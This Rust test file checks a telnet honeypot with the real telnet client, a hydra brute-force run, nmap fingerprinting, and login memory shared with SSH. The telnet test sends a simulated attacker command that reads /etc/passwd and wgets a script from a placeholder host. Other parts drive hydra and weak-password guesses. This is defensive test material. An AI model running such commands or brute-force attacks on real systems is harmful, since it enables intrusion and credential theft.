//! The telnet honeypot against the real `telnet` client (login refused then accepted,
//! commands, a download, the transcript capture), hydra's telnet module with a 20×20
//! list under a `never` policy, and `nmap -sV` naming it as it names Debian's telnetd.

mod shell_common;
mod tools;
use honeybee_proto::config::{LoginPolicy, ServiceKind, TelnetOptions};
use honeybee_proto::event::{AuthMethod, EventKind};
use shell_common::*;
use std::process::Stdio;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

fn telnet(login: LoginPolicy, delay_ms: u32) -> ServiceKind {
    ServiceKind::Telnet(TelnetOptions {
        login,
        auth_failure_delay_ms: delay_ms,
        hostname: "web-prod-02".into(),
        ..Default::default()
    })
}

/// A `telnet` client process whose output the test reads as it comes.
struct Client {
    child: tokio::process::Child,
    stdin: tokio::process::ChildStdin,
    stdout: tokio::process::ChildStdout,
    seen: Vec<u8>,
}

impl Client {
    fn spawn(port: u16) -> Client {
        let mut child = tokio::process::Command::new("telnet")
            .args(["127.0.0.1", &port.to_string()])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .kill_on_drop(true)
            .spawn()
            .unwrap();
        let stdin = child.stdin.take().unwrap();
        let stdout = child.stdout.take().unwrap();
        Client {
            child,
            stdin,
            stdout,
            seen: Vec::new(),
        }
    }

    /// Reads until the output since `from` holds `what`; returns the new end.
    async fn wait_for(&mut self, from: usize, what: &str) -> usize {
        let deadline = tokio::time::Instant::now() + WAIT;
        loop {
            if let Some(i) =
                String::from_utf8_lossy(&self.seen[from.min(self.seen.len())..]).find(what)
            {
                return from + i + what.len();
            }
            let mut buf = [0u8; 4096];
            let n = tokio::time::timeout_at(deadline, self.stdout.read(&mut buf))
                .await
                .unwrap_or_else(|_| {
                    panic!("no {what:?} in {:?}", String::from_utf8_lossy(&self.seen))
                })
                .unwrap();
            assert!(
                n > 0,
                "client ended before {what:?}: {:?}",
                String::from_utf8_lossy(&self.seen)
            );
            self.seen.extend_from_slice(&buf[..n]);
        }
    }

    async fn send(&mut self, line: &str) {
        self.stdin
            .write_all(format!("{line}\n").as_bytes())
            .await
            .unwrap();
    }
}

#[tokio::test]
async fn telnet_client_logs_in_and_runs_commands() {
    tools::require(&["telnet"]);
    let dir = tempfile::tempdir().unwrap();
    let mut run = start(
        dir.path(),
        &one("telnet", telnet(LoginPolicy::AfterAttempts(1), 50)),
    )
    .await;
    let mut c = Client::spawn(run.addr.port());
    // inetutils-telnetd's host line, then login's prompt.
    let at = c.wait_for(0, "\r\nLinux 6.1.0-").await;
    let at = c.wait_for(at, " (web-prod-02) (pts/0)\r\n\r\n").await;
    let at = c.wait_for(at, "web-prod-02 login: ").await;
    c.send("root").await;
    let at = c.wait_for(at, "Password: ").await;
    c.send("123456").await;
    let at = c.wait_for(at, "Login incorrect").await;
    let at = c.wait_for(at, "web-prod-02 login: ").await;
    c.send("root").await;
    let at = c.wait_for(at, "Password: ").await;
    c.send("admin").await;
    let at = c.wait_for(at, "root@web-prod-02:~# ").await;
    c.send("uname -a; cat /etc/passwd; wget http://x/y.sh")
        .await;
    let at = c
        .wait_for(at, "wget: unable to resolve host address 'x'")
        .await;
    let at = c.wait_for(at, "root@web-prod-02:~# ").await;
    c.send("cd /tmp && echo hi > f && cat f").await;
    let at = c.wait_for(at, "hi\r\n").await;
    c.send("exit").await;
    c.wait_for(at, "logout").await;
    let status = tokio::time::timeout(WAIT, c.child.wait())
        .await
        .expect("telnet ends")
        .unwrap();
    let shown = String::from_utf8_lossy(&c.seen).into_owned();
    // The password is never echoed.
    assert!(
        !shown.contains("123456") && !shown.contains("admin"),
        "{shown}"
    );
    assert!(shown.contains("Linux web-prod-02 6.1.0-"), "{shown}");
    let _ = status;

    let ev = until_disconnect(&mut run.rx).await;
    let a = attempts(&ev);
    assert_eq!(a.len(), 2, "{a:?}");
    assert!(
        a.iter()
            .all(|x| x.method == AuthMethod::Password && x.username == "root")
    );
    assert_eq!(
        (a[0].password.as_deref(), a[0].success),
        (Some("123456"), false)
    );
    assert_eq!(
        (a[1].password.as_deref(), a[1].success),
        (Some("admin"), true)
    );
    assert_eq!(
        commands(&ev),
        vec![
            "uname -a; cat /etc/passwd; wget http://x/y.sh",
            "cd /tmp && echo hi > f && cat f",
            "exit"
        ]
    );
    assert_eq!(
        downloads(&ev),
        vec![("http://x/y.sh".to_owned(), "wget".to_owned())]
    );
    assert!(
        ev.iter()
            .any(|e| matches!(&e.kind, EventKind::Capture { kind, .. } if kind == "transcript"))
    );
    let t = transcripts(&run.spool);
    assert_eq!(t.len(), 1);
    let cast = Cast::parse(&t[0].1);
    let input = cast.stream("i");
    assert!(
        input.contains("uname -a; cat /etc/passwd; wget http://x/y.sh"),
        "{input:?}"
    );
    let output = cast.stream("o");
    assert!(
        output.contains("root:x:0:0:root:/root:/bin/bash"),
        "{output}"
    );
    assert!(
        output.contains("wget: unable to resolve host address 'x'"),
        "{output}"
    );
    assert!(!output.contains("123456"));
    run.mgr.shutdown().await;
}

#[tokio::test]
async fn hydra_telnet_every_attempt_recorded_once() {
    tools::require(&["hydra"]);
    let dir = tempfile::tempdir().unwrap();
    // hydra 9.4 loses pairs on a connection that survives a failure: after "Login
    // incorrect" and a new "login:" it sends an empty name, takes the prompt that
    // answers it as the verdict on its next pair and never sends that password (half its
    // "tries" never reach any telnetd). A server that hangs up after each failure, as
    // many embedded telnetds do, gets every pair.
    let kind = ServiceKind::Telnet(TelnetOptions {
        login: LoginPolicy::Never,
        auth_failure_delay_ms: 10,
        max_auth_attempts: 1,
        ..Default::default()
    });
    let mut run = start(dir.path(), &one("telnet", kind)).await;
    let out = hydra(dir.path(), "telnet", run.addr.port()).await;
    tools::assert_hydra_finished(
        out.status.success(),
        &String::from_utf8_lossy(&out.stdout),
        &String::from_utf8_lossy(&out.stderr),
    );
    let (_, _, pairs) = hydra_lists(dir.path());
    let mut seen: Vec<(String, String)> = Vec::new();
    while let Ok(Some(e)) = tokio::time::timeout(Duration::from_secs(3), run.rx.recv()).await {
        if let EventKind::AuthAttempt(a) = e.kind {
            assert!(!a.success);
            seen.push((a.username, a.password.unwrap_or_default()));
        }
    }
    seen.sort();
    let mut want = pairs;
    want.sort();
    assert_eq!(
        seen.len(),
        400,
        "every attempt exactly once: {} {}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(seen, want);
    // No login succeeded, so no transcript was kept.
    assert!(transcripts(&run.spool).is_empty());
    // Still serving: a new connection gets the option requests.
    let mut s = tokio::net::TcpStream::connect(run.addr).await.unwrap();
    let mut probe = [0u8; 21];
    tokio::time::timeout(WAIT, s.read_exact(&mut probe))
        .await
        .unwrap()
        .unwrap();
    // inetutils-telnetd's first requests (telnet_oracle compares them with the real one).
    assert_eq!(probe[..6], [255, 251, 37, 255, 251, 38]);
    run.mgr.shutdown().await;
}

/// nmap has no signature for inetutils-telnetd's opening (it names netkit's "Linux
/// telnetd"): for the real Debian 12 telnetd it says `telnet` and no product, and so it
/// must for ours.
#[tokio::test]
async fn nmap_names_telnet_as_for_the_real_telnetd() {
    tools::require(&["nmap"]);
    let dir = tempfile::tempdir().unwrap();
    let mut run = start(dir.path(), &one("telnet", telnet(LoginPolicy::Never, 10))).await;
    let (name, product, _) = nmap_service(run.addr.port()).await;
    assert_eq!((name.as_str(), product.as_str()), ("telnet", ""));
    run.mgr.shutdown().await;
}

/// One `telnet` connection from `bind` as a one-try bot: `user`/`password` once; `true`
/// if it got a shell (then it leaves with `exit`).
async fn telnet_try(port: u16, bind: &str, user: &str, password: &str) -> bool {
    let mut child = tokio::process::Command::new("telnet")
        .args(["-b", bind, "127.0.0.1", &port.to_string()])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut c = Client {
        stdin: child.stdin.take().unwrap(),
        stdout: child.stdout.take().unwrap(),
        child,
        seen: Vec::new(),
    };
    let at = c.wait_for(0, "web-prod-02 login: ").await;
    c.send(user).await;
    let at = c.wait_for(at, "Password: ").await;
    c.send(password).await;
    let deadline = tokio::time::Instant::now() + WAIT;
    let ok = loop {
        let text = String::from_utf8_lossy(&c.seen[at..]).into_owned();
        if text.contains("Login incorrect") {
            break false;
        }
        if text.contains(&format!("{user}@web-prod-02:")) {
            break true;
        }
        let mut buf = [0u8; 4096];
        let n = tokio::time::timeout_at(deadline, c.stdout.read(&mut buf))
            .await
            .unwrap_or_else(|_| panic!("no verdict in {text:?}"))
            .unwrap();
        assert!(n > 0, "client ended before a verdict: {text:?}");
        c.seen.extend_from_slice(&buf[..n]);
    };
    if ok {
        c.send("exit").await;
        c.wait_for(at, "logout").await;
    }
    let _ = tokio::time::timeout(WAIT, c.child.wait()).await;
    ok
}

/// Issue 12, login policy, over Telnet and SSH on one node: one try per connection, the
/// second connection from a source gets in under `after_attempts = 1`; its password
/// works again and no other does; 127.0.0.2 counts on its own; and SSH shares the
/// memory (the same accounts on the box imitated): the password that got in over Telnet
/// gets in over SSH, another is refused, and a failure over Telnet counts for SSH.
#[tokio::test]
async fn telnet_one_try_bots_and_ssh_share_the_login_memory() {
    tools::require(&["telnet", "ssh", "sshpass"]);
    let dir = tempfile::tempdir().unwrap();
    let mut config = one(
        "telnet",
        ServiceKind::Telnet(TelnetOptions {
            login: LoginPolicy::AfterAttempts(1),
            auth_failure_delay_ms: 10,
            max_auth_attempts: 1,
            hostname: "web-prod-02".into(),
            ..Default::default()
        }),
    );
    config.services.push(honeybee_proto::config::ServiceConfig {
        name: "ssh".into(),
        listen: "127.0.0.1:0".parse().unwrap(),
        enabled: true,
        kind: ServiceKind::Ssh(honeybee_proto::config::SshOptions {
            login: LoginPolicy::AfterAttempts(1),
            auth_failure_delay_ms: 10,
            ..Default::default()
        }),
    });
    let mut run = start(dir.path(), &config).await;
    let port = run.addr.port();
    let ssh_port = run.mgr.status()[1]
        .listen
        .parse::<std::net::SocketAddr>()
        .unwrap()
        .port();
    let (a, b) = ("127.0.0.1", "127.0.0.2");
    let mut verdicts = Vec::new();
    for (bind, user, pw, want) in [
        (a, "root", "123456", false),
        (a, "root", "hunter2", true),
        (a, "root", "hunter2", true),
        (a, "root", "123456", false),
        (b, "root", "hunter2", false),
    ] {
        let got = telnet_try(port, bind, user, pw).await;
        let ev = until_disconnect(&mut run.rx).await;
        assert_eq!(ev[0].src.unwrap().ip().to_string(), bind);
        let at = attempts(&ev);
        assert_eq!(at.len(), 1, "{at:?}");
        assert_eq!(at[0].success, got);
        verdicts.push(((bind, user, pw), got, want));
    }
    let ssh = async |bind: &str, pw: &str| {
        let out = tokio::time::timeout(
            WAIT,
            tokio::process::Command::new("sshpass")
                .args(["-p", pw, "ssh", "-b", bind, "-F", "/dev/null"])
                .args([
                    "-o",
                    "StrictHostKeyChecking=no",
                    "-o",
                    "UserKnownHostsFile=/dev/null",
                ])
                .args([
                    "-o",
                    "PreferredAuthentications=password",
                    "-o",
                    "PubkeyAuthentication=no",
                ])
                .args(["-o", "NumberOfPasswordPrompts=1", "-o", "LogLevel=ERROR"])
                .args(["-p", &ssh_port.to_string(), "root@127.0.0.1", "echo in"])
                .stdin(Stdio::null())
                .kill_on_drop(true)
                .output(),
        )
        .await
        .expect("ssh in time")
        .unwrap();
        out.status.success() && out.stdout == b"in\n"
    };
    for (bind, pw, want) in [
        (a, "hunter2", true),
        (a, "123456", false),
        // b's one failure was over Telnet; its next try, over SSH, is the one in.
        (b, "qwerty", true),
        (b, "hunter2", false),
    ] {
        let got = ssh(bind, pw).await;
        let _ = until_disconnect(&mut run.rx).await;
        verdicts.push(((bind, "root(ssh)", pw), got, want));
    }
    let wrong: Vec<_> = verdicts
        .iter()
        .filter(|(_, got, want)| got != want)
        .collect();
    assert!(wrong.is_empty(), "{verdicts:?}");
    run.mgr.shutdown().await;
}
